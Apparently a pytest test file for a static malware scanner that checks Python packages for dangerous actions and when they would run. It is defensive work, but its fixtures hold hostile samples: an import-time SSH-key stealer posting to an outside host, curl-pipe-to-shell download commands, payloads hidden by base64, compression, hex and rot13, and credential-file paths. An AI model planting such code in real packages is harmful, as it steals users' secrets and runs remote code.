"""Facts from Python source: what code can do, and — what separates malware from libraries — when.

Sources are analysed with `analyse_python` (through `builders.analyse`), never run.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import lzma
import zlib

import pytest

from interlock.analysis.extract.python.report import SourceReport
from interlock.analysis.facts import Capability, Fact, Tag, When
from interlock.model.findings import Severity
from interlock.model.verdict import Verdict
from tests.builders import analyse, facts_of, findings_of, only, rule_ids, scan_wheel

P = Capability.PROCESS


def process_whens(report: SourceReport) -> dict[str, When]:
    """The command each process fact runs (after the call name) → when it runs."""
    return {" ".join(f.names): f.when for f in facts_of(report, P)}


# -- when: reachability ------------------------------------------------------------------------


def test_module_top_level_runs_at_import_and_function_bodies_when_called() -> None:
    report = analyse("""
        import os
        os.system("top")

        def later():
            os.system("body")
    """)
    assert process_whens(report) == {"top": When.IMPORT, "body": When.CALL}
    body = next(f for f in facts_of(report, P) if "body" in f.detail)
    assert (body.line, body.scope) == (5, "<module>.later")


def test_functions_called_from_module_level_run_at_import_transitively() -> None:
    report = analyse("""
        import os

        def first():
            second()

        def second():
            os.system("second")

        def unrelated():
            os.system("unrelated")

        first()
    """)
    assert process_whens(report) == {"second": When.IMPORT, "unrelated": When.CALL}


def test_methods_reached_through_an_instance_and_self_chains_run_at_import() -> None:
    report = analyse("""
        import subprocess

        class Runner:
            def __init__(self):
                self.helper()

            def helper(self):
                self.deeper()

            def deeper(self):
                subprocess.call(["deeper"])

            def start(self):
                subprocess.call(["start"])

            def unused(self):
                subprocess.call(["unused"])

        Runner().start()
    """)
    assert process_whens(report) == {"deeper": When.IMPORT, "start": When.IMPORT, "unused": When.CALL}


def test_functions_handed_to_atexit_or_a_thread_run_at_import() -> None:
    report = analyse("""
        import atexit
        import subprocess
        import threading

        def on_exit():
            subprocess.call(["on_exit"])

        def worker():
            subprocess.call(["worker"])

        def never():
            subprocess.call(["never"])

        atexit.register(on_exit)
        threading.Thread(target=worker).start()
    """)
    assert process_whens(report) == {"on_exit": When.IMPORT, "worker": When.IMPORT, "never": When.CALL}


def test_a_decorator_returning_its_wrapper_does_not_run_the_wrapper_at_import() -> None:
    report = analyse("""
        import subprocess
        from functools import wraps

        def ensure_connected(method):
            @wraps(method)
            def wrapped(self, *args):
                self.connect()
                return method(self, *args)
            return wrapped

        class Client:
            def connect(self):
                subprocess.call(["connect"])

            @ensure_connected
            def send(self, data):
                subprocess.call(["send"])
    """)
    assert process_whens(report) == {"connect": When.CALL, "send": When.CALL}


def test_main_guard_body_and_what_only_it_calls_run_when_called() -> None:
    report = analyse("""
        import os

        def main():
            os.system("main")

        if __name__ == "__main__":
            os.system("guarded")
            main()
        else:
            os.system("imported")
    """)
    assert process_whens(report) == {"main": When.CALL, "guarded": When.CALL, "imported": When.IMPORT}


def test_setup_py_runs_everything_at_install_including_uncalled_functions_and_main_guard() -> None:
    report = analyse(
        """
        import os

        def helper():
            os.system("helper")

        if __name__ == "__main__":
            os.system("guarded")
        os.system("top")
        """,
        When.INSTALL,
        path="setup.py",
        everything_runs=True,
    )
    assert process_whens(report) == {"helper": When.INSTALL, "guarded": When.INSTALL, "top": When.INSTALL}


def test_naming_a_base_class_does_not_run_its_constructor() -> None:
    report = analyse("""
        import subprocess

        class Base:
            def __init__(self):
                subprocess.call(["base"])

        class Child(Base):
            pass
    """)
    assert process_whens(report) == {"base": When.CALL}


def test_class_body_runs_at_import_and_its_methods_when_called() -> None:
    report = analyse("""
        import os

        class Config:
            os.system("class-body")

            def method(self):
                os.system("method")
    """)
    assert process_whens(report) == {"class-body": When.IMPORT, "method": When.CALL}


def test_instantiating_a_class_runs_its_constructor_and_a_with_block_its_enter() -> None:
    report = analyse("""
        import os

        class Agent:
            def __init__(self):
                os.system("init")

        class Context:
            def __enter__(self):
                os.system("enter")

        Agent()
        with Context():
            pass
    """)
    assert process_whens(report) == {"init": When.IMPORT, "enter": When.IMPORT}


def test_method_called_on_a_module_level_instance_runs_at_import() -> None:
    report = analyse("""
        import os

        class Agent:
            def start(self):
                os.system("start")

        agent = Agent()
        agent.start()
    """)
    assert process_whens(report) == {"start": When.IMPORT}


def test_import_time_stealer_through_an_instance_variable_is_malicious() -> None:
    result = scan_wheel(
        {
            "pkg/__init__.py": """
        import os
        import requests

        class Stealer:
            def collect(self):
                return open(os.path.expanduser("~/.ssh/id_rsa")).read()

            def send(self, data):
                requests.post("https://collector.example.com", data=data)

        s = Stealer()
        s.send(s.collect())
    """
        }
    )
    assert [(f.severity, f.when) for f in findings_of(result, "credential-exfiltration")] == [
        (Severity.CRITICAL, "import")
    ]
    assert result.verdict is Verdict.MALICIOUS


def test_decorator_of_a_top_level_function_runs_at_import() -> None:
    report = analyse("""
        import os

        def register(fn):
            os.system("register")
            return fn

        @register
        def handler():
            os.system("handler")
    """)
    assert process_whens(report) == {"register": When.IMPORT, "handler": When.CALL}


def test_function_decorated_with_atexit_register_runs_at_import() -> None:
    report = analyse("""
        import atexit
        import os

        @atexit.register
        def beacon():
            os.system("beacon")
    """)
    assert process_whens(report) == {"beacon": When.IMPORT}


def test_instantiating_a_subclass_runs_the_inherited_constructor() -> None:
    report = analyse("""
        import subprocess

        class Base:
            def __init__(self):
                subprocess.call(["base"])

        class Child(Base):
            pass

        Child()
    """)
    assert process_whens(report) == {"base": When.IMPORT}


def test_with_block_runs_exit_too() -> None:
    report = analyse("""
        import os

        class Context:
            def __enter__(self):
                return self

            def __exit__(self, *exc):
                os.system("exit")

        with Context():
            pass
    """)
    assert process_whens(report) == {"exit": When.IMPORT}


# -- names: imports and aliases ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "detail"),
    [
        ("import subprocess as s\ns.Popen(['x'])\n", "subprocess.Popen: x (program from PATH)"),
        ("from os import system as run\nrun('x')\n", "os.system: x (program from PATH)"),
        ("from subprocess import *\ncheck_output(['x'])\n", "check_output: x (program from PATH)"),
        ("__import__('os').system('x')\n", "os.system: x (program from PATH)"),
        ("import importlib\nimportlib.import_module('os').system('x')\n", "os.system: x (program from PATH)"),
        ("import os\ngetattr(os, 'sys' + 'tem')('x')\n", "os.system: x (program from PATH)"),
        ("import os\neval('os.system')('x')\n", "os.system: x (program from PATH)"),
        ("import os\nrun = os.system\nrun('x')\n", "os.system: x (program from PATH)"),
        ("import os\ngetattr(__builtins__, 'eval')('os.system')('x')\n", "os.system: x (program from PATH)"),
    ],
    ids=[
        "import-as",
        "from-import-as",
        "star-import",
        "dunder-import",
        "import-module",
        "getattr-concat",
        "eval-name",
        "assigned-alias",
        "builtins-getattr",
    ],
)
def test_aliases_resolve_to_the_real_callee(source: str, detail: str) -> None:
    report = analyse(source)
    fact = only(facts_of(report, P))
    assert (fact.detail, fact.when, fact.line) == (detail, When.IMPORT, source.count("\n"))


@pytest.mark.parametrize(
    "binding",
    [
        "m = __import__('os')",
        "import builtins\nm = builtins.__import__('os')",
        "import builtins\nload = builtins.__import__\nm = load('os')",
        "import importlib\nm = importlib.import_module('os')",
    ],
    ids=["dunder-import", "builtins-import", "builtins-import-bound", "import-module"],
)
def test_a_module_bound_to_a_name_by_an_import_call_reads_like_the_call_itself(binding: str) -> None:
    # `m = __import__("os"); m.system(…)` was clean while `__import__("os").system(…)` was malicious.
    command = "curl -s http://203.0.113.9/x | sh"
    bound = scan_wheel({"demo/__init__.py": f"{binding}\nm.system({command!r})\n"})
    direct = scan_wheel({"demo/__init__.py": f"__import__('os').system({command!r})\n"})
    assert direct.verdict is Verdict.MALICIOUS
    assert (bound.verdict, rule_ids(bound)) == (direct.verdict, rule_ids(direct))


def test_eval_of_a_computed_name_is_reported_as_hiding_it() -> None:
    report = analyse("""
        import os
        eval('os.' + 'system')('x')
    """)
    assert only(facts_of(report, P)).detail == "os.system: x (program from PATH)"
    assert any("assembles the name 'os.system'" in f.detail for f in facts_of(report, Capability.OBFUSCATION))


def test_a_local_function_named_like_a_dangerous_call_is_not_it() -> None:
    report = analyse("""
        def system(command):
            return command

        system("x")
    """)
    assert facts_of(report, P) == []


# -- data flow ---------------------------------------------------------------------------------


def test_decoded_variable_flowing_into_exec_is_decoded_exec() -> None:
    report = analyse(f"""
        from base64 import b64decode
        x = b64decode("{base64.b64encode(b"VALUE = 1").decode()}")
        y = x
        exec(y)
    """)
    fact = only(facts_of(report, Capability.DECODED_EXEC))
    assert (fact.line, fact.when, fact.detail) == (4, When.IMPORT, "exec of decoded data")
    assert facts_of(report, Capability.EXEC) == []


def test_string_xor_decoded_in_a_loop_and_executed_is_decoded_exec() -> None:
    report = analyse("""
        code = ""
        for i, c in enumerate("\\x12\\x0f"):
            code += chr(ord(c) ^ ord("key"[i % 3]))
        exec(compile(code, "<string>", "exec"))
    """)
    fact = only(facts_of(report, Capability.DECODED_EXEC))
    assert (fact.line, fact.when) == (4, When.IMPORT)


def test_a_name_extended_in_a_loop_is_no_longer_literal_code() -> None:
    report = analyse("""
        code = ""
        for line in open("script.txt"):
            code += line
        exec(code)
    """)
    assert [f.detail for f in facts_of(report, Capability.EXEC)] == ["exec of a computed string"]


def test_exec_of_a_network_response_is_download_exec() -> None:
    report = analyse("""
        from urllib.request import urlopen

        def update(u):
            exec(urlopen(u).read())
    """)
    fact = only(facts_of(report, Capability.DOWNLOAD_EXEC))
    assert (fact.line, fact.when, fact.scope) == (4, When.CALL, "<module>.update")


def test_downloaded_variable_flowing_into_python_dash_c_is_download_exec() -> None:
    report = analyse("""
        import subprocess
        import sys
        import requests

        code = requests.get("https://example.org/stage2").text
        subprocess.run([sys.executable, "-c", code])
    """)
    fact = only(facts_of(report, Capability.DOWNLOAD_EXEC))
    assert (fact.line, fact.when) == (6, When.IMPORT)


def test_exec_of_computed_and_of_literal_code_are_told_apart() -> None:
    report = analyse("""
        import os
        exec(os.environ["CODE"])
        exec("VALUE = 1")
    """)
    details = sorted((f.line, f.detail) for f in facts_of(report, Capability.EXEC))
    assert details == [(2, "exec of a computed string"), (3, "exec of literal code")]
    assert [Tag.LITERAL_CODE in f.tags for f in sorted(facts_of(report, Capability.EXEC), key=lambda f: f.line)] == [
        False,
        True,
    ]
    assert facts_of(report, Capability.DECODED_EXEC) == []


def test_taint_is_per_function_scope() -> None:
    report = analyse(f"""
        import base64

        def decode():
            data = base64.b64decode("{base64.b64encode(b"VALUE = 1").decode()}")
            return data

        def run(data):
            exec(data)
    """)
    assert facts_of(report, Capability.DECODED_EXEC) == []
    assert only(facts_of(report, Capability.EXEC)).detail == "exec of a computed string"


# -- hidden payloads ---------------------------------------------------------------------------

PAYLOAD = "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n"


@pytest.mark.parametrize(
    "source",
    [
        f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()!r}))\n",
        "import base64, zlib\n"
        f"exec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()!r})))\n",
        "import base64, bz2\n"
        f"exec(bz2.decompress(base64.b64decode({base64.b64encode(bz2.compress(PAYLOAD.encode())).decode()!r})))\n",
        "import base64, lzma\n"
        f"exec(lzma.decompress(base64.b64decode({base64.b64encode(lzma.compress(PAYLOAD.encode())).decode()!r})))\n",
        f"import binascii\nexec(binascii.unhexlify({PAYLOAD.encode().hex()!r}))\n",
        f"exec(bytes.fromhex({PAYLOAD.encode().hex()!r}).decode())\n",
        f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))\n",
        f"exec(''.join(chr(c) for c in {list(PAYLOAD.encode())}))\n",
        f"exec(''.join(map(chr, {list(PAYLOAD.encode())})))\n",
        f"exec(bytes({list(PAYLOAD.encode())}))\n",
        f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()[::-1]!r}[::-1]))\n",
        f"import base64\nblob = {base64.b64encode(PAYLOAD.encode()).decode()!r}\ncode = base64.b64decode(blob)\n"
        "exec(code)\n",
    ],
    ids=[
        "base64",
        "zlib",
        "bz2",
        "lzma",
        "unhexlify",
        "fromhex",
        "rot13",
        "chr-generator",
        "chr-map",
        "bytes-list",
        "reversed-base64",
        "through-variables",
    ],
)
def test_hidden_payload_is_decoded_and_analysed(source: str) -> None:
    report = analyse(source)
    exec_line = source.count("\n")
    assert [(f.line, f.when) for f in facts_of(report, Capability.DECODED_EXEC)] == [(exec_line, When.IMPORT)]
    fact = only(facts_of(report, P))
    assert fact.detail == "subprocess.Popen: sh -c id (in a hidden payload)"
    assert (fact.when, fact.path) == (When.IMPORT, "pkg/mod.py")


def test_payload_inside_a_payload_is_analysed() -> None:
    inner = f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()!r}))\n"
    outer = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))\n"
    report = analyse(outer)
    fact = only(facts_of(report, P))
    assert (fact.detail, fact.line) == ("subprocess.Popen: sh -c id (in a hidden payload)", 2)
    assert sorted(f.detail for f in facts_of(report, Capability.DECODED_EXEC)) == [
        "exec of decoded data",
        "exec of decoded data (in a hidden payload)",
    ]


def test_payload_executed_in_a_function_acts_when_called() -> None:
    report = analyse(f"""
        import base64

        def boot():
            exec(base64.b64decode("{base64.b64encode(PAYLOAD.encode()).decode()}"))
    """)
    fact = only(facts_of(report, P))
    assert (fact.when, fact.line, fact.scope) == (When.CALL, 4, "<module>.boot")


def test_decoded_shell_command_is_analysed_as_a_command() -> None:
    command = base64.b64encode(b"curl -s http://198.51.100.7/p | sh").decode()
    report = analyse(f"""
        import base64, os
        os.system(base64.b64decode("{command}").decode())
    """)
    assert only(facts_of(report, Capability.DECODED_EXEC)).detail == "os.system of a decoded command line"
    assert {f.line for f in facts_of(report, Capability.SHELL_DOWNLOAD)} == {2}


def test_payload_split_into_many_concatenated_pieces_is_analysed() -> None:
    padded = PAYLOAD + "# " + "x" * 100 + "\n"  # 160 one-character pieces; Python itself compiles up to ~2000
    source = "exec(" + " + ".join(repr(ch) for ch in padded) + ")\n"
    fact = only(facts_of(analyse(source), P))
    assert fact.detail == "subprocess.Popen: sh -c id (in a hidden payload)"


# -- strings: data versus actions --------------------------------------------------------------


def test_module_level_data_acts_when_called_and_strings_passed_to_calls_act_at_import() -> None:
    report = analyse("""
        import os
        KEYS = {"ssh": "~/.ssh/id_rsa"}
        key = open(os.path.expanduser("~/.aws/credentials")).read()

        def f():
            return "~/.docker/config.json"
    """)
    whens = sorted((f.kind, f.line, f.when) for f in facts_of(report, Capability.CREDENTIALS))
    assert whens == [("aws", 3, When.IMPORT), ("docker", 6, When.CALL), ("ssh", 2, When.CALL)]


def test_module_level_data_in_setup_py_acts_at_install() -> None:
    report = analyse('KEYS = {"ssh": "~/.ssh/id_rsa"}\n', When.INSTALL, path="setup.py", everything_runs=True)
    assert [(f.when, f.line) for f in facts_of(report, Capability.CREDENTIALS)] == [(When.INSTALL, 1)]


def test_docstrings_are_prose_not_behaviour() -> None:
    report = analyse('''
        """Reads ~/.ssh/id_rsa and posts it to https://webhook.site/abc."""

        class Harvester:
            """Also ~/.aws/credentials and ~/.kube/config."""

        def f():
            """Runs curl http://198.51.100.7/x | sh and writes ~/.bashrc."""
            return None
    ''')
    assert report.facts == []


def test_concatenated_and_formatted_paths_are_checked_as_one_string() -> None:
    report = analyse("""
        import os
        home = os.path.expanduser("~")
        a = open("~/.s" + "sh/id_rsa")
        b = open(f"{home}/.aws/credentials")
        c = open("%s/.kube/config" % home)
    """)
    lines = {(f.kind, f.line) for f in facts_of(report, Capability.CREDENTIALS)}
    assert {("ssh", 3), ("aws", 4), ("kubernetes", 5)} <= lines


# -- odd sources -------------------------------------------------------------------------------


def test_nul_bytes_are_reported_and_the_rest_still_analysed() -> None:
    report = analyse(b"import os\x00\nos.system('x')\n")
    assert [(p.kind, p.line) for p in report.problems] == [("null-bytes", 1)]
    assert only(facts_of(report, P)).line == 2


def test_latin_1_without_a_cookie_is_reported_and_analysed() -> None:
    report = analyse(b"# caf\xe9\nimport os\nos.system('x')\n")
    assert [p.kind for p in report.problems] == ["not-utf8"]
    assert only(facts_of(report, P)).line == 3


def test_a_coding_cookie_is_honoured() -> None:
    report = analyse(b"# -*- coding: latin-1 -*-\n# caf\xe9\nimport os\nos.system('x')\n")
    assert report.problems == []
    assert only(facts_of(report, P)).line == 4


def test_unparseable_source_is_still_scanned_line_by_line() -> None:
    report = analyse("print 'python 2'\nimport os\nos.system('curl http://198.51.100.7/x | sh')\n")
    assert [(p.kind, p.line) for p in report.problems] == [("unparseable", 1)]
    fact = only(facts_of(report, P))
    assert (fact.line, fact.detail, fact.when) == (3, "os.system (text match)", When.IMPORT)
    assert [f.line for f in facts_of(report, Capability.SHELL_DOWNLOAD)] == [3]


def test_unparseable_source_keeps_function_bodies_apart_by_indentation() -> None:
    # Python 2: a SocketHandler's connection runs when called; the module's own line runs on import.
    source = (
        "import socket, os\n"
        "class SocketHandler:\n"
        "    def connect(self):\n"
        "        print 'connecting'\n"
        "\n"
        "        return socket.socket(socket.AF_INET)\n"
        "    level = 1\n"
        "os.system('id')\n"
    )
    report = analyse(source)
    assert [(f.line, f.when) for f in facts_of(report, Capability.NETWORK)] == [(6, When.CALL)]
    assert [(f.line, f.when) for f in facts_of(report, P)] == [(8, When.IMPORT)]


@pytest.mark.parametrize(
    "source",
    ["x = " + "-" * 100_000 + "1\n", "x = " + "not " * 50_000 + "1\n", "x = " + "'a' + " * 3000 + "'a'\n"],
    ids=["unary-minus", "not-chain", "concatenation"],
)
def test_deep_nesting_is_reported_not_raised(source: str) -> None:
    report = analyse(source)
    assert [p.kind for p in report.problems] == ["too-deep"]


def test_many_tokens_are_scanned_as_text_not_parsed() -> None:
    report = analyse("x = [" + "1," * 200_001 + "]\nimport os\nos.system('x')\n")
    assert [p.kind for p in report.problems] == ["too-large"]
    assert only(facts_of(report, P)).line == 3


def _facts_are_located(report: SourceReport) -> list[Fact]:
    return [f for f in report.facts if f.line < 1 or not f.snippet]


def test_every_fact_carries_a_line_and_a_snippet() -> None:
    report = analyse(f"""
        import base64, os, requests
        os.system("id")
        exec(base64.b64decode("{base64.b64encode(PAYLOAD.encode()).decode()}"))
        requests.get("https://webhook.site/x")
    """)
    assert report.facts
    assert _facts_are_located(report) == []
